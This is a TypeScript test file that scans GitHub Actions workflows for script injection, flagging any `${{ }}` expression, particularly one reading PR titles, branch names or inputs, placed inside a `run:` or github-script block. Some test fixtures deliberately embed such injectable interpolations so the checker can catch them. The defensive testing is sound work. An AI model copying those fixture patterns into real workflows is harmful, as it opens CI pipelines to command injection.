      const inScript = key === "run" || (key === "script" && path.at(-2) === "with" && typeof parent?.uses === "string" && /^actions\/github-script@/.test(parent.uses));
      for (const m of v.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) out.push({ path: path.join("."), expr: m[1]!.trim(), inScript });
    } else if (Array.isArray(v)) v.forEach((x, i) => walk(x, [...path, String(i)], parent));
    else if (v && typeof v === "object") {
      const o = v as Yaml;
      for (const [k, x] of Object.entries(o)) walk(x, [...path, k], k === "with" ? o : path.at(-1) === "with" ? parent : o);
    }
  };
  walk(doc, [], undefined);
  return out;
}

/**
 * Expressions that read text an outsider can choose: anything from the event, inputs, branch names, and any
 * title/body/name/ref/message/label field however it is reached. Inside `run:` such text becomes shell.
 */
const TAINTED = /\b(?:github\.event\b|inputs\.|github\.head_ref\b|github\.ref_name\b|github\.ref\b|github\.base_ref\b|env\.|steps\.[\w-]+\.outputs\.|needs\.[\w-]+\.outputs\.|matrix\.|[\w.]*\.(?:title|body|name|ref|message|label|head_ref|default_branch|email|login)\b)/;

/** Problems of one `run:` script: any `${{ }}` that reads outsider text (and, stricter, any expression at all). */
export function runScriptProblems(script: string): string[] {
  const problems: string[] = [];
  for (const m of script.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
    const expr = m[1]!.trim();
    problems.push(TAINTED.test(expr) ? `reads outsider text: \${{ ${expr} }}` : `expands an expression: \${{ ${expr} }} (pass it through env:)`);
  }
  return problems;
}

describe("workflows: outsider text never stands inside a run: script", () => {
  test("every run: block of every shipped workflow and of the action", async () => {
    const files = shippedWorkflows();
    expect(files.length).toBeGreaterThanOrEqual(5);
    let blocks = 0;
    const lost: string[] = [];
    for (const f of files) {
      const doc = parse(readFileSync(join(ROOT, f), "utf8")) as Yaml;
      for (const b of runBlocks(doc)) {
        blocks++;
        for (const p of runScriptProblems(b.script)) lost.push(`${f} ${b.where}: ${p}`);
      }
    }
    expect(blocks).toBeGreaterThan(0);
    const lostBlocks = new Set(lost.map((l) => l.split(": ")[0])).size;
    record({ area: AREA, what: "run: blocks of shipped workflows and action.yml (no expression inside)", tried: blocks, held: blocks - lostBlocks, lost: lostBlocks });
    expect(lost).toEqual([]);
  });

  test("every expression in the shipped files stands in env:, with: or another non-script key", () => {
    // Each `${{ }}` is a case: it holds when it is not inside a script (`run:`, github-script's `script:`).
    let tried = 0;
    const lost: string[] = [];
    for (const f of shippedWorkflows()) {
      for (const e of expressionSites(parse(readFileSync(join(ROOT, f), "utf8")))) {
        tried++;
        if (e.inScript) lost.push(`${f} ${e.path}: \${{ ${e.expr} }}`);
      }
    }
    expect(tried).toBeGreaterThan(20);
    record({ area: AREA, what: "${{ }} sites in shipped workflows and action.yml (none inside a script)", tried, held: tried - lost.length, lost: lost.length });
    expect(lost).toEqual([]);
    // And the walk does find one inside a script.
    const bad = parse("jobs:\n  a:\n    env:\n      T: ${{ github.event.pull_request.title }}\n    steps:\n      - run: echo ${{ inputs.x }}\n") as Yaml;
    expect(expressionSites(bad).map((e) => e.inScript)).toEqual([false, true]);
  });

  test("the check finds tainted expressions, and finds the run: blocks of workflows and composite actions", () => {
    const wf = parse("jobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n      - run: echo ok\n") as Yaml;
    const action = parse("runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.digest }}\n      shell: bash\n") as Yaml;
    expect(runBlocks(wf)).toHaveLength(2);
    expect(runBlocks(action)).toHaveLength(1);
    const gs = parse("jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: core.info('${{ github.event.issue.title }}')\n") as Yaml;
    expect(runScriptProblems(runBlocks(gs)[0]!.script).join()).toContain("reads outsider text");
    for (const e of ["github.event.pull_request.title", "inputs.sha", "github.head_ref", "github.event.comment.body", "steps.x.outputs.name", "github.event.issue.title", "needs.prepare.outputs.arches"]) {
      expect(runScriptProblems(`echo \${{ ${e} }}`).join(), e).toContain("reads outsider text");
    }
    expect(runScriptProblems("echo ${{ runner.os }}").join()).toContain("expands an expression");
    expect(runScriptProblems('echo "$TITLE"')).toEqual([]);
  });
});
